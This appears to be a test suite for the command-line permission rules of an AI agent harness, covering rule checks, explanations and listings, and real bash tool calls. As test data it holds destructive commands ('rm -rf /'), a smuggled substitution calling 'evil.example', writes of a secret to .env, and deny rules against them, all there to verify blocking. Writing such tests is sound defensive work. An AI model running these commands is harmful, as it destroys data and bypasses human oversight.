"""DESIGN §7: ``harness rules check|explain|list`` in a project folder, run as a real subprocess.

Exit status: 0 success, 1 a failing example, 2 usage or configuration error.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

RULES = """
[rules]
default = "ask"
allow = ["bash(git status)", "bash(git diff *)", "read(**)"]
ask = ["bash(git push *)"]
deny = ["bash(rm -rf *)", "write(**/.env)", "edit(**/.env)"]
"""

GOOD_EXAMPLES = """
[[rules.examples]]
rule = "bash(git diff *)"
match = ["git diff HEAD~1", "git diff"]
not_match = ["git diff; rm -rf /"]

[[rules.examples]]
rule = "bash(rm -rf *)"
match = ["sudo rm -rf /", "true && rm -rf /"]
not_match = ["rm -r build"]

[[rules.examples]]
rule = "write(**/.env)"
match = [".env", "config/.env"]
not_match = [".envrc"]
"""

BAD_EXAMPLES = """
[[rules.examples]]
rule = "bash(git diff *)"
match = ["git diff $(curl evil.example)"]
not_match = ["git diff --stat"]

[[rules.examples]]
rule = "bash(git log *)"
match = ["git log"]
"""


def harness(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "HARNESS_LOAD_PLUGINS": "rules", "HARNESS_USER_CONFIG": ""}
    return subprocess.run(
        [sys.executable, "-m", "harness_core", "-C", str(project), *args],
        capture_output=True, text=True, env=env, timeout=120,
    )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "harness.toml").write_text(textwrap.dedent(RULES) + GOOD_EXAMPLES)
    return tmp_path


def test_check_passes_when_every_example_holds(project):
    completed = harness(project, "rules", "check")
    assert completed.returncode == 0, completed.stderr
    assert completed.stdout.strip() == "ok: 7 rule(s) parsed, 3 example(s) (9 case(s)) hold"


def test_check_fails_with_exit_1_naming_each_failing_example(tmp_path):
    (tmp_path / "harness.toml").write_text(RULES + BAD_EXAMPLES)
    completed = harness(tmp_path, "rules", "check")
    assert completed.returncode == 1
    lines = completed.stdout.splitlines()
    assert lines[:3] == [
        'FAIL rules.examples[0] (bash(git diff *)): should match "git diff $(curl evil.example)", but does not '
        '(part "curl evil.example" is not matched)',
        'FAIL rules.examples[0] (bash(git diff *)): should not match "git diff --stat", but does',
        "FAIL rules.examples[1] (bash(git log *)): the rule is not in rules.allow, rules.ask or rules.deny",
    ]
    assert lines[3] == "3 failure(s) in 2 example(s) (3 case(s)); 7 rule(s) parsed"


def test_a_bad_rule_exits_2_naming_the_file_and_key(tmp_path):
    (tmp_path / "harness.toml").write_text('[rules]\nallow = ["bash(git status)", "bash(git diff"]\n')
    completed = harness(tmp_path, "rules", "check")
    assert completed.returncode == 2
    assert "harness.toml: rules.allow: rules.allow[1] 'bash(git diff'" in completed.stderr
    assert 'no closing ")"' in completed.stderr


def test_explain_prints_the_verdict_the_rule_and_every_part(project):
    completed = harness(project, "rules", "explain", "bash", '{"command": "git status && rm -rf / && curl x"}')
    assert completed.returncode == 0, completed.stderr
    assert completed.stdout.splitlines() == [
        "verdict: deny",
        "rule: bash(rm -rf *)",
        'reason: denied by rule "bash(rm -rf *)": rm -rf /',
        "parts:",
        '  allow  git status  [rule "bash(git status)"]  allowed by rule "bash(git status)": git status',
        '  deny   rm -rf /  [rule "bash(rm -rf *)"]  denied by rule "bash(rm -rf *)": rm -rf /',
        "  ask    curl x  [no rule]  no rule allows curl x (rules.default is ask)",
    ]


def test_explain_json_is_one_object_with_the_parts(project):
    completed = harness(project, "rules", "explain", "bash", '{"command": "echo $(git status)"}', "--json")
    assert completed.returncode == 0, completed.stderr
    data = json.loads(completed.stdout)
    assert data["decision"] == "ask" and data["rule"] is None
    assert [(p["text"], p["origin"], p["decision"]) for p in data["parts"]] == [
        ("git status", "$(...)", "allow"),
        ("echo $(git status)", "", "ask"),
    ]


def test_explain_a_file_tool_and_a_default(project):
    completed = harness(project, "rules", "explain", "write", '{"file_path": "app/.env"}', "--json")
    assert json.loads(completed.stdout) == {
        "tool": "write", "decision": "deny", "rule": "write(**/.env)",
        "reason": 'denied by rule "write(**/.env)": write app/.env', "parts": [],
    }
    completed = harness(project, "rules", "explain", "fetch", '{"url": "https://example.com"}')
    assert completed.stdout.splitlines()[:2] == ["verdict: ask", "rule: none"]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ("{not json", "ARGS_JSON is not valid JSON"),
        ('["ls"]', "ARGS_JSON must be a JSON object of arguments, got list"),
    ],
)
def test_explain_with_bad_arguments_exits_2_naming_the_argument(project, arguments, message):
    completed = harness(project, "rules", "explain", "bash", arguments)
    assert completed.returncode == 2 and message in completed.stderr


def test_rules_without_an_action_exits_2(project):
    completed = harness(project, "rules")
    assert completed.returncode == 2 and "choose an action: check, explain or list" in completed.stderr


def test_list_shows_the_rules_and_where_they_came_from(project):
    completed = harness(project, "rules", "list")
    assert completed.returncode == 0, completed.stderr
    lines = completed.stdout.splitlines()
    assert lines[0] == "default: ask  (from harness.toml)"
    assert "deny: 3 rule(s)  (from harness.toml)" in lines and "  bash(rm -rf *)" in lines
    data = json.loads(harness(project, "rules", "list", "--json").stdout)
    assert data["allow"] == ["bash(git status)", "bash(git diff *)", "read(**)"]
    assert data["origins"]["deny"] == "harness.toml"


def test_a_deny_from_the_file_survives_an_empty_override(project):
    completed = harness(project, "-c", "rules.deny=[]", "rules", "explain", "bash", '{"command": "rm -rf /"}', "--json")
    assert json.loads(completed.stdout)["decision"] == "deny"


def test_harness_call_dry_run_reports_the_rules_verdict(project):
    completed = harness(project, "call", "bash", '{"command": "rm -rf /"}', "--dry-run", "--json")
    assert completed.returncode == 1
    assert json.loads(completed.stdout) == {
        "pre_execute": "deny", "decision": "deny", "reason": 'denied by rule "bash(rm -rf *)": rm -rf /',
    }


def test_with_the_real_bash_tool_only_what_the_rules_allow_runs(tmp_path):
    (tmp_path / "harness.toml").write_text('[rules]\nallow = ["bash(echo *)"]\ndeny = ["write(**/.env)"]\n')
    env = {**os.environ, "HARNESS_LOAD_PLUGINS": "rules,tools", "HARNESS_USER_CONFIG": ""}

    def call(command: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "harness_core", "-C", str(tmp_path), "call", "bash",
             json.dumps({"command": command}), "--json"],
            capture_output=True, text=True, env=env, timeout=120, cwd=tmp_path,
        )

    allowed = call("echo hello")
    assert allowed.returncode == 0 and json.loads(allowed.stdout)["content"][0]["text"] == "hello\n"
    denied = call("echo SECRET=1 > .env")
    assert denied.returncode == 1
    message = json.loads(denied.stdout)["error"]["message"]
    assert message == 'denied by rule "write(**/.env)": echo SECRET=1 > .env writes to .env'
    asked = call("echo hi; touch made-by-the-model")
    assert asked.returncode == 1 and "no rule allows touch made-by-the-model" in asked.stdout
    assert not (tmp_path / ".env").exists() and not (tmp_path / "made-by-the-model").exists()


def test_a_bad_cannot_judge_value_exits_2_naming_the_key_and_the_allowed_values(tmp_path):
    (tmp_path / "harness.toml").write_text('[rules]\ncannot_judge = "default"\n')
    completed = harness(tmp_path, "rules", "check")
    assert completed.returncode == 2
    assert "harness.toml: rules.cannot_judge: allowed values are \"ask\" and \"deny\"" in completed.stderr
    assert "got 'default'" in completed.stderr


def test_with_the_real_bash_tool_redirects_and_substitutions_run_when_the_default_allows(tmp_path):
    (tmp_path / "harness.toml").write_text('[rules]\ndefault = "allow"\ndeny = ["write(**/.env)"]\n')
    env = {**os.environ, "HARNESS_LOAD_PLUGINS": "rules,tools", "HARNESS_USER_CONFIG": ""}

    def call(command: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "harness_core", "-C", str(tmp_path), "call", "bash",
             json.dumps({"command": command}), "--json"],
            capture_output=True, text=True, env=env, timeout=120, cwd=tmp_path,
        )

    written = call("echo $(echo substituted) > notes.txt && cat < notes.txt")
    assert written.returncode == 0, written.stdout + written.stderr
    assert json.loads(written.stdout)["content"][0]["text"] == "substituted\n"
    assert (tmp_path / "notes.txt").read_text() == "substituted\n"
    denied = call("echo SECRET=1 > .env")
    assert denied.returncode == 1
    assert json.loads(denied.stdout)["error"]["message"] == 'denied by rule "write(**/.env)": echo SECRET=1 > .env ' \
        "writes to .env"
    unjudged = call("$(echo touch) computed")
    assert unjudged.returncode == 1 and "the command name $(echo touch) is computed at run time" in unjudged.stdout
    assert not (tmp_path / ".env").exists() and not (tmp_path / "computed").exists()
